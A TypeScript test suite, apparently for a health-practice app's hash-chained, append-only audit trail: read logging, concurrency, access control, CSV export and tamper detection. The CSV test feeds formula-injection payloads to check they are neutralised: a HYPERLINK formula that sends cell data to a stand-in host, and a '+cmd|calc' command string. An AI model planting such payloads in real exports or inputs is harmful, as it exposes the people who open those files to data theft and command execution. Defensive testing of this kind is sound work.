import { randomUUID } from 'node:crypto';
import type request from 'supertest';
import { ChainAuditEvents1795893000000 } from '../../migrations/1795893000000-ChainAuditEvents';
import { eventHash, chainRowFrom, CHAIN_BATCH_SQL } from '../../src/audit/audit-chain';
import { READ_ACTIONS } from '../../src/audit/audit-events';
import { AuditTrailService } from '../../src/audit/audit-trail.service';
import { AuditService } from '../../src/audit/audit.service';
import { runVerifyCommand, verifyAllPractices } from '../../src/audit/verify-command';
import { Transactions } from '../../src/database/transaction';
import { addMember, csrfFrom, SignedInClient, signUpPractice } from '../factories/accounts';
import { daysFromToday, publishedOffering } from '../factories/agreements';
import { clientApi, COMPLETE_ANSWERS, inviteClient } from '../factories/intake';
import { asBytes } from '../support/pdf-text';
import { startTestApp, TestApp } from '../support/test-app';

/**
 * The audit trail: hash-chained per practice, append-only in the database, reads recorded with who
 * and from where, verified by the owner's page and by `npm run audit:verify`, exported as CSV.
 */
interface EventRow {
  id: string;
  seq: number;
  action: string;
  record_id: string;
  record_kind: string;
  actor_kind: string;
  actor_id: string | null;
  ip: string | null;
  user_agent: string | null;
  data: Record<string, unknown>;
}

const UA = 'AuditReader/1.0 (test)';
const isRead = (action: string) => (READ_ACTIONS as string[]).includes(action);

describe('audit trail', () => {
  let t: TestApp;
  let owner: SignedInClient;
  let ana: SignedInClient;
  let desk: SignedInClient;
  let offeringId: string;
  let trail: AuditTrailService;
  let journey: { intakeId: string; token: string; agreementId: string; reviewId: string; clientId: string };

  const api = (who: SignedInClient) => ({
    get: (path: string) => who.agent.get(`/api/v1${path}`),
    post: (path: string, body?: object) => who.agent.post(`/api/v1${path}`).set('X-CSRF-Token', who.csrfToken).send(body),
    put: (path: string, body?: object) => who.agent.put(`/api/v1${path}`).set('X-CSRF-Token', who.csrfToken).send(body),
  });
  const events = (practiceId: string, afterSeq = 0) =>
    t.sql<EventRow>(
      'SELECT id, seq, action, record_id, record_kind, actor_kind, actor_id, ip, user_agent, data FROM audit_events WHERE practice_id = $1 AND seq > $2 ORDER BY seq',
      [practiceId, afterSeq],
    );
  const lastSeq = async (practiceId: string) =>
    (await t.sql<{ seq: number | null }>('SELECT max(seq) AS seq FROM audit_events WHERE practice_id = $1', [practiceId]))[0].seq ?? 0;
  const expectContiguous = async (practiceId: string) => {
    const seqs = (await events(practiceId)).map((e) => e.seq);
    expect(seqs).toEqual(seqs.map((_, i) => i + 1));
    return seqs.length;
  };

  beforeAll(async () => {
    t = await startTestApp();
    trail = t.app.get(AuditTrailService);
    owner = await signUpPractice(t.browser(), { practiceName: 'Riverside Healing Arts' });
    ana = await addMember(owner, t.browser(), 'practitioner', 'Dr. Ana Ortiz');
    desk = await addMember(owner, t.browser(), 'front_desk', 'Frankie Frontdesk');
    offeringId = await publishedOffering(ana);
  });
  afterAll(() => t.close());

  it('chains a whole client journey: invite, submit, reflect, agreement, review; the chain verifies', async () => {
    const { id: intakeId, token } = await inviteClient(desk, { name: 'Maya Ortiz' });
    await clientApi(t.browser(), token).save(0, COMPLETE_ANSWERS).expect(200);
    await clientApi(t.browser(), token).submit(randomUUID()).expect(201);
    await api(ana)
      .post(`/intakes/${intakeId}/reflection`, {
        story: 'Your back has hurt since a fall last winter.',
        mattersMost: 'Carrying your daughter again.',
        goals: { 'goals.1': 'To carry your daughter without pain' },
      })
      .expect(201);
    await t.browser().post(`/api/v1/intake-links/${token}/reflection/response`).send({ verdict: 'confirmed' }).expect(201);
    const started = await api(ana)
      .post('/agreements', { intakeId, offeringId, startDate: daysFromToday(-56) })
      .expect(201);
    const agreementId: string = started.body.id;
    const findings = Object.fromEntries(started.body.content.findings.map((f: { key: string }) => [f.key, 'Talked through.']));
    await api(ana)
      .put(`/agreements/${agreementId}/draft`, { revision: 0, choice: { option: 0, reasons: 'It fits.' }, findings })
      .expect(200);
    await api(ana).post(`/agreements/${agreementId}/propose`).expect(201);
    const seen = await t.browser().get(`/api/v1/intake-links/${token}/agreements/${agreementId}`).expect(200);
    await t
      .browser()
      .post(`/api/v1/intake-links/${token}/agreements/${agreementId}/sign`)
      .send({ typedName: 'Maya Ortiz', consent: true, contentHash: seen.body.contentHash })
      .expect(201);
    await api(ana).post(`/agreements/${agreementId}/countersign`, { typedName: 'Dr. Ana Ortiz', consent: true }).expect(201);
    await ana.agent.get('/reviews').expect(200);
    const [{ id: reviewId }] = await t.sql<{ id: string }>("SELECT id FROM reviews WHERE agreement_id = $1 AND kind = 'trial_end'", [
      agreementId,
    ]);
    await t
      .browser()
      .post(`/i/${token}/reviews/${reviewId}`)
      .type('form')
      .send({
        'goals[goals.1][score]': '7',
        'goals[goals.1][words]': 'Better.',
        'baseline[baseline.eating]': '7',
        'baseline[baseline.sleep_hours]': '7.5',
        'baseline[baseline.sleep]': '8',
        'baseline[baseline.movement]': '6',
        'baseline[baseline.emotions]': '7',
      })
      .expect(303);
    const reviewPage = (await ana.agent.get(`/reviews/${reviewId}`).expect(200)).text;
    await ana.agent
      .post(`/reviews/${reviewId}/decision`)
      .type('form')
      .send({ _csrf: csrfFrom(reviewPage), decision: 'continue', reason: 'Keep going.' })
      .expect(303);
    journey = { intakeId, token, agreementId, reviewId, clientId: started.body.clientId };

    const all = await events(owner.practice.id);
    const changes = (recordId: string) =>
      all.filter((e) => e.record_id === recordId && !isRead(e.action)).map((e) => `${e.actor_kind}:${e.action}`);
    expect(changes(intakeId)).toEqual([
      'client:intake.submitted',
      'staff:reflection.sent',
      'staff:intake.reviewed',
      'client:reflection.confirmed',
    ]);
    expect(changes(agreementId)).toEqual([
      'staff:agreement.started',
      'staff:agreement.proposed',
      'client:agreement.signed',
      'staff:agreement.signed',
    ]);
    expect(changes(reviewId)).toEqual(['client:review.answered', 'staff:review.decided']);
    const count = await expectContiguous(owner.practice.id);
    expect(all[0].seq).toBe(1);

    const report = await trail.verify(owner.practice.id);
    expect(report).toMatchObject({ ok: true, checked: count, broken: null, head: { seq: count } });
    const page = (await owner.agent.get('/audit?verify=1').expect(200)).text;
    expect(page).toContain(`All ${count} events of this practice are in order and unchanged`);
    expect(page).toContain('Review decided');
    expect(page).toContain('Dr. Ana Ortiz');
    expect(page).toContain('Client (through their link)');
    // Ids and states only: nothing the client or the practitioner wrote.
    expect(page).not.toContain('Keep going.');
    expect(page).not.toContain('fall last winter');
  });

  it('records every read of client data once, with the actor, the IP and the user agent', async () => {
    const { intakeId, token, agreementId, reviewId, clientId } = journey;
    const check = await api(ana).post(`/intakes/${intakeId}/checks`, { offeringId }).expect(201);
    const checkId: string = check.body.check.id;
    const pdf = (agent: request.Agent, path: string) => agent.get(path).set('User-Agent', UA).buffer(true).parse(asBytes);
    const get = (agent: request.Agent, path: string) => agent.get(path).set('User-Agent', UA);
    const staff = (who: SignedInClient) => ({ kind: 'staff', id: who.user.id });
    const client = { kind: 'client', id: clientId };
    const reads: Array<[string, () => request.Test, string, string, { kind: string; id: string }, object?]> = [
      ['intake page (practitioner)', () => get(ana.agent, `/intake/${intakeId}`), 'intake.viewed', intakeId, staff(ana), { answers: true }],
      [
        'intake page (front desk)',
        () => get(desk.agent, `/intake/${intakeId}`),
        'intake.viewed',
        intakeId,
        staff(desk),
        { answers: false },
      ],
      ['intake API', () => get(owner.agent, `/api/v1/intakes/${intakeId}`), 'intake.viewed', intakeId, staff(owner), { answers: true }],
      ['intake summary PDF', () => pdf(ana.agent, `/intake/${intakeId}/pdf`), 'intake.pdf_downloaded', intakeId, staff(ana)],
      [
        'JSON export',
        () => get(ana.agent, `/api/v1/intakes/${intakeId}/export`),
        'intake.exported',
        intakeId,
        staff(ana),
        { format: 'json' },
      ],
      [
        'FHIR export',
        () => get(ana.agent, `/api/v1/intakes/${intakeId}/fhir`),
        'intake.exported',
        intakeId,
        staff(ana),
        { format: 'fhir' },
      ],
      ['reflection page', () => get(ana.agent, `/intake/${intakeId}/reflection`), 'reflection.viewed', intakeId, staff(ana)],
      ['reflection API', () => get(ana.agent, `/api/v1/intakes/${intakeId}/reflection`), 'reflection.viewed', intakeId, staff(ana)],
      ['being heard overview', () => get(owner.agent, `/intake/${intakeId}/alignment`), 'reflection.viewed', intakeId, staff(owner)],
      ['check page', () => get(ana.agent, `/intake/${intakeId}/checks/${checkId}`), 'alignment.viewed', intakeId, staff(ana), { checkId }],
      [
        'check API',
        () => get(ana.agent, `/api/v1/intakes/${intakeId}/checks/${checkId}`),
        'alignment.viewed',
        intakeId,
        staff(ana),
        { checkId },
      ],
      ['agreement page', () => get(desk.agent, `/agreements/${agreementId}`), 'agreement.viewed', agreementId, staff(desk)],
      ['agreement API', () => get(ana.agent, `/api/v1/agreements/${agreementId}`), 'agreement.viewed', agreementId, staff(ana)],
      ['agreement PDF', () => pdf(desk.agent, `/agreements/${agreementId}/pdf`), 'agreement.pdf_downloaded', agreementId, staff(desk)],
      ['review page', () => get(ana.agent, `/reviews/${reviewId}`), 'review.viewed', reviewId, staff(ana)],
      ['partnership timeline', () => get(desk.agent, `/clients/${clientId}`), 'client.timeline_viewed', clientId, staff(desk)],
      ['client: their agreement', () => get(t.browser(), `/i/${token}/agreements/${agreementId}`), 'agreement.viewed', agreementId, client],
      [
        'client: their agreement (API)',
        () => get(t.browser(), `/api/v1/intake-links/${token}/agreements/${agreementId}`),
        'agreement.viewed',
        agreementId,
        client,
      ],
      [
        'client: agreement PDF',
        () => pdf(t.browser(), `/i/${token}/agreements/${agreementId}/pdf`),
        'agreement.pdf_downloaded',
        agreementId,
        client,
      ],
      ['client: their review', () => get(t.browser(), `/i/${token}/reviews/${reviewId}`), 'review.viewed', reviewId, client],
      ['client: timeline', () => get(t.browser(), `/i/${token}/timeline`), 'client.timeline_viewed', clientId, client],
      ['client: what was heard', () => get(t.browser(), `/i/${token}/heard`), 'reflection.viewed', intakeId, client],
      ['client: intake PDF', () => pdf(t.browser(), `/i/${token}/pdf`), 'intake.pdf_downloaded', intakeId, client],
      ['client: the check', () => get(t.browser(), `/i/${token}/checks/${checkId}`), 'alignment.viewed', intakeId, client, { checkId }],
    ];
    for (const [what, call, action, recordId, actor, data] of reads) {
      const before = await lastSeq(owner.practice.id);
      const res = await call();
      expect([what, res.status]).toEqual([what, 200]);
      const added = await events(owner.practice.id, before);
      expect([what, added.length]).toEqual([what, 1]);
      expect(added[0]).toMatchObject({ action, record_id: recordId, actor_kind: actor.kind, actor_id: actor.id, user_agent: UA });
      expect(added[0].ip).toMatch(/127\.0\.0\.1/);
      expect(added[0].data).toEqual(data ?? {});
    }

    // Lists are not recorded row by row.
    const before = await lastSeq(owner.practice.id);
    for (const path of ['/intake', '/agreements', '/reviews', '/api/v1/intakes']) await ana.agent.get(path).expect(200);
    expect(await events(owner.practice.id, before)).toEqual([]);

    // The print queue's merged PDF: each document in it, as printed.
    const queue = (await ana.agent.get('/print-queue').expect(200)).text;
    const printedBefore = await lastSeq(owner.practice.id);
    await ana.agent
      .post('/print-queue/print')
      .set('User-Agent', UA)
      .type('form')
      .send({ _csrf: csrfFrom(queue), 'items[]': [`agreement:${agreementId}`, `intake_summary:${intakeId}`] })
      .buffer(true)
      .parse(asBytes)
      .expect(200);
    const printed = await events(owner.practice.id, printedBefore);
    expect(printed.map((e) => [e.action, e.record_id, e.actor_id, e.user_agent])).toEqual([
      ['agreement.printed', agreementId, ana.user.id, UA],
      ['intake.printed', intakeId, ana.user.id, UA],
    ]);
    // The client reading a proposed agreement on the practice's signing screen.
    const second = await inviteClient(desk, { name: 'Maya Ortiz' });
    await clientApi(t.browser(), second.token).save(0, COMPLETE_ANSWERS).expect(200);
    await clientApi(t.browser(), second.token).submit(randomUUID()).expect(201);
    const proposal = await api(ana)
      .post('/agreements', { intakeId: second.id, offeringId, startDate: daysFromToday(7), reflectionNote: 'In person.' })
      .expect(201);
    const proposalFindings = Object.fromEntries(proposal.body.content.findings.map((f: { key: string }) => [f.key, 'Agreed.']));
    await api(ana)
      .put(`/agreements/${proposal.body.id}/draft`, { revision: 0, choice: { option: 0, reasons: 'It fits.' }, findings: proposalFindings })
      .expect(200);
    await api(ana).post(`/agreements/${proposal.body.id}/propose`).expect(201);
    const deskPage = (await desk.agent.get(`/agreements/${proposal.body.id}`).expect(200)).text;
    const opened = await desk.agent
      .post(`/agreements/${proposal.body.id}/screen`)
      .type('form')
      .send({ _csrf: csrfFrom(deskPage) })
      .expect(200);
    const screenPath = /value="https?:\/\/[^/"]+(\/sign\/[^"]+)"/.exec(opened.text)![1];
    const screenBefore = await lastSeq(owner.practice.id);
    await t.browser().get(screenPath).set('User-Agent', UA).expect(200);
    expect(await events(owner.practice.id, screenBefore)).toEqual([
      expect.objectContaining({
        action: 'agreement.viewed',
        record_id: proposal.body.id,
        actor_kind: 'client',
        actor_id: proposal.body.clientId,
        user_agent: UA,
      }),
    ]);
    await expectContiguous(owner.practice.id);
    expect((await trail.verify(owner.practice.id)).ok).toBe(true);
  });

  it('concurrent appends of one practice never fork the chain: seq stays unique and contiguous', async () => {
    const pages = await Promise.all(Array.from({ length: 24 }, () => owner.agent.get(`/intake/${journey.intakeId}`)));
    expect(pages.map((p) => p.status)).toEqual(pages.map(() => 200));
    // And straight through the service, several events per transaction, all at once.
    const transactions = t.app.get(Transactions);
    const audit = t.app.get(AuditService);
    await Promise.all(
      Array.from({ length: 16 }, (_, i) =>
        transactions.run(async (tx) => {
          for (let n = 0; n < 3; n++) {
            await audit.record(
              tx,
              owner.practice.id,
              { kind: 'system', id: null },
              {
                action: 'review.viewed',
                recordKind: 'review',
                recordId: journey.reviewId,
              },
            );
          }
          return i;
        }),
      ),
    );
    const count = await expectContiguous(owner.practice.id);
    const [{ distinct }] = await t.sql<{ distinct: number }>(
      'SELECT count(DISTINCT prev_hash)::int AS distinct FROM audit_events WHERE practice_id = $1',
      [owner.practice.id],
    );
    expect(distinct).toBe(count);
    expect(await trail.verify(owner.practice.id)).toMatchObject({ ok: true, checked: count });
  });

  it('the audit page is the owner’s alone, filters, pages, and never shows another practice', async () => {
    for (const who of [ana, desk]) {
      expect((await who.agent.get('/audit').expect(403)).text).not.toContain('Intake viewed');
      await who.agent.get('/audit.csv').expect(403);
      await who.agent.get('/audit?verify=1').expect(403);
    }
    expect((await owner.agent.get('/dashboard').expect(200)).text).toContain('href="/audit"');
    expect((await ana.agent.get('/dashboard').expect(200)).text).not.toContain('href="/audit"');

    const bOwner = await signUpPractice(t.browser(), { practiceName: 'Practice Bravo', ownerName: 'Bravo Owner' });
    const bIntake = await inviteClient(bOwner, { name: 'Bravo Client' });
    await bOwner.agent.get(`/intake/${bIntake.id}`).expect(200);
    expect((await events(bOwner.practice.id)).map((e) => e.action)).toContain('intake.viewed');

    const all = (await owner.agent.get('/audit').expect(200)).text;
    expect(all).not.toContain(bIntake.id);
    expect(all).not.toContain('Bravo');
    const foreign = (await owner.agent.get(`/audit?record=${bIntake.id}`).expect(200)).text;
    expect(foreign).toContain('No event matches these filters.');
    expect((await owner.agent.get('/audit.csv').expect(200)).text).not.toContain(bIntake.id);

    const total = (await events(owner.practice.id)).length;
    expect(all).toContain(`${total} events, newest first`);
    expect(all).toContain(`Page 1 of ${Math.ceil(total / 50)}`);
    expect(all).toContain('href="/audit?page&#x3D;2"');
    expect((await owner.agent.get('/audit?page=2').expect(200)).text).toContain('Page 2 of');

    const { reviewId } = journey;
    const byAction = (await owner.agent.get('/audit?action=agreement.signed').expect(200)).text;
    expect(byAction).toContain('2 events, newest first');
    const byRecord = (await owner.agent.get(`/audit?record=${reviewId}&actor=client`).expect(200)).text;
    const clientReviewEvents = (await events(owner.practice.id)).filter((e) => e.record_id === reviewId && e.actor_kind === 'client');
    expect(byRecord).toContain(`${clientReviewEvents.length} events, newest first`);
    const byMember = (await owner.agent.get(`/audit?actor=${desk.user.id}&kind=agreement`).expect(200)).text;
    const deskAgreementEvents = (await events(owner.practice.id)).filter(
      (e) => e.actor_id === desk.user.id && e.record_kind === 'agreement',
    );
    expect(byMember).toContain(`${deskAgreementEvents.length} event${deskAgreementEvents.length === 1 ? '' : 's'}, newest first`);
    const today = new Date().toISOString().slice(0, 10);
    expect((await owner.agent.get(`/audit?from=${today}&to=${today}`).expect(200)).text).toContain(`${total} events`);
    expect((await owner.agent.get(`/audit?from=${daysFromToday(1)}`).expect(200)).text).toContain('No event matches these filters.');
    await owner.agent.get('/audit?from=2026-02-30').expect(400);
    await owner.agent.get('/audit?action=drop%20table').expect(400);
    await owner.agent.get('/audit?kind=users').expect(400);
  });

  it('exports the same filter as CSV, with formula-looking cells made harmless', async () => {
    const { token, agreementId } = journey;
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
    for (const ua of [evil, '+cmd|calc', '-2+3', '@SUM(A1)']) {
      await t.browser().get(`/i/${token}/agreements/${agreementId}`).set('User-Agent', ua).expect(200);
    }
    const res = await owner.agent.get(`/audit.csv?action=agreement.viewed&actor=client`).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = res.text.trimEnd().split('\r\n');
    expect(lines[0]).toBe(
      '"seq","occurred_at","action","record_kind","record_id","actor_kind","actor_id","actor_name","ip","user_agent","data","prev_hash","hash"',
    );
    const clientViews = (await events(owner.practice.id)).filter((e) => e.action === 'agreement.viewed' && e.actor_kind === 'client');
    expect(lines).toHaveLength(1 + clientViews.length);
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`);
    expect(res.text).toContain(`"'+cmd|calc"`);
    expect(res.text).toContain(`"'-2+3"`);
    expect(res.text).toContain(`"'@SUM(A1)"`);
    // No cell anywhere starts with a formula character.
    for (const line of lines) expect(line).not.toMatch(/(^|,)"[=+\-@]/);
    // Newest first, like the page; staff names resolved in the staff rows.
    const staffCsv = (await owner.agent.get(`/audit.csv?actor=${ana.user.id}`).expect(200)).text;
    expect(staffCsv).toContain('"Dr. Ana Ortiz"');
    const seqs = staffCsv
      .trimEnd()
      .split('\r\n')
      .slice(1)
      .map((l) => Number(/^"(\d+)"/.exec(l)![1]));
    expect(seqs).toEqual([...seqs].sort((a, b) => b - a));
  });

  it('the migration chains events recorded before it, in the order they happened', async () => {
    const before = await t.sql<{ practice_id: string; n: number }>(
      'SELECT practice_id, count(*)::int AS n FROM audit_events GROUP BY practice_id ORDER BY practice_id',
    );
    const migration = new ChainAuditEvents1795893000000();
    const runner = t.dataSource.createQueryRunner();
    await runner.startTransaction();
    try {
      await migration.down(runner);
      expect(
        await runner.query("SELECT 1 FROM information_schema.columns WHERE table_name = 'audit_events' AND column_name = 'seq'"),
      ).toEqual([]);
      await migration.up(runner);
      await runner.commitTransaction();
    } catch (error) {
      await runner.rollbackTransaction();
      throw error;
    } finally {
      await runner.release();
    }
    const after = await t.sql<{ practice_id: string; n: number }>(
      'SELECT practice_id, count(*)::int AS n FROM audit_events GROUP BY practice_id ORDER BY practice_id',
    );
    expect(after).toEqual(before);
    for (const { practice_id } of after) {
      await expectContiguous(practice_id);
      expect((await trail.verify(practice_id)).ok).toBe(true);
    }
    // The trigger is back: the rows are append-only again.
    await expect(t.sql("UPDATE audit_events SET ip = '10.6.6.6' WHERE practice_id = $1", [owner.practice.id])).rejects.toThrow(/immutable/);
    // And appending continues the chain.
    await owner.agent.get(`/intake/${journey.intakeId}`).expect(200);
    expect((await trail.verify(owner.practice.id)).ok).toBe(true);
  });

  describe('tampering', () => {
    /** A practice of its own with at least five events (its owner's sign-up, a client's intake opened five times). */
    async function practiceWithEvents() {
      const who = await signUpPractice(t.browser(), { practiceName: 'Tamper Test Practice' });
      const intake = await inviteClient(who, { name: 'Sam Client' });
      for (let i = 0; i < 5; i++) await who.agent.get(`/intake/${intake.id}`).expect(200);
      const rows = await events(who.practice.id);
      expect(rows.length).toBeGreaterThanOrEqual(5);
      await expectContiguous(who.practice.id);
      return { who, rows };
    }
    /** An attacker with the database's superuser: the append-only trigger switched off around `sql`. */
    async function behindTheTrigger(sql: string, params: unknown[]) {
      await t.sql('ALTER TABLE audit_events DISABLE TRIGGER ALL');
      try {
        await t.sql(sql, params);
      } finally {
        await t.sql('ALTER TABLE audit_events ENABLE TRIGGER ALL');
      }
    }

    it('UPDATE and DELETE by SQL are refused by the database', async () => {
      const { who } = await practiceWithEvents();
      await expect(t.sql("UPDATE audit_events SET ip = '10.6.6.6' WHERE practice_id = $1 AND seq = 2", [who.practice.id])).rejects.toThrow(
        /immutable/,
      );
      await expect(t.sql('DELETE FROM audit_events WHERE practice_id = $1 AND seq = 5', [who.practice.id])).rejects.toThrow(/immutable/);
      expect((await trail.verify(who.practice.id)).ok).toBe(true);
    });

    it('a row altered behind the trigger is reported at exactly its seq, on the page and by the command', async () => {
      const { who, rows } = await practiceWithEvents();
      await behindTheTrigger("UPDATE audit_events SET ip = '10.6.6.6' WHERE practice_id = $1 AND seq = 3", [who.practice.id]);
      const report = await trail.verify(who.practice.id);
      expect(report).toMatchObject({ ok: false, checked: 2, broken: { seq: 3, id: rows[2].id, problem: 'hash' } });
      const page = (await who.agent.get('/audit?verify=1').expect(200)).text;
      expect(page).toContain('The chain is broken at event 3');
      expect(page).toContain(rows[2].id);
      // Other practices' chains are untouched.
      expect((await trail.verify(owner.practice.id)).ok).toBe(true);

      const lines: string[] = [];
      if (process.env.DATABASE_URL) {
        // The command as `npm run audit:verify` runs it: its own DataSource on DATABASE_URL.
        expect(await runVerifyCommand({ DATABASE_URL: t.config.databaseUrl }, (l) => lines.push(l))).toBe(1);
      } else {
        // The embedded database serves one connection (the app's): the same check through it.
        expect(
          await verifyAllPractices(
            (sql, params) => t.sql(sql, params),
            (l) => lines.push(l),
          ),
        ).toBe(false);
      }
      expect(lines.find((l) => l.includes(who.practice.id))).toMatch(/^BROKEN .* first broken link at seq 3 \(event [0-9a-f-]+\), hash:/);
      expect(lines.find((l) => l.includes(owner.practice.id))).toMatch(/^OK /);
    });

    it('a row altered and re-hashed breaks the next link: the first break is still reported', async () => {
      const { who } = await practiceWithEvents();
      const [raw] = await t.sql<Record<string, unknown>>(CHAIN_BATCH_SQL, [who.practice.id, 1, 1]);
      const forged = { ...chainRowFrom(raw), ip: '10.6.6.6' };
      await behindTheTrigger("UPDATE audit_events SET ip = '10.6.6.6', hash = $2 WHERE practice_id = $1 AND seq = 2", [
        who.practice.id,
        eventHash(forged),
      ]);
      expect(await trail.verify(who.practice.id)).toMatchObject({ ok: false, checked: 2, broken: { seq: 3, problem: 'prev_hash' } });
    });

    it('a deleted row shows as a gap at its seq', async () => {
      const { who } = await practiceWithEvents();
      await behindTheTrigger('DELETE FROM audit_events WHERE practice_id = $1 AND seq = 2', [who.practice.id]);
      expect(await trail.verify(who.practice.id)).toMatchObject({ ok: false, checked: 1, broken: { seq: 2, id: null, problem: 'gap' } });
      expect((await who.agent.get('/audit?verify=1').expect(200)).text).toContain('event 2 is missing (the next one is 3)');
    });
  });
});
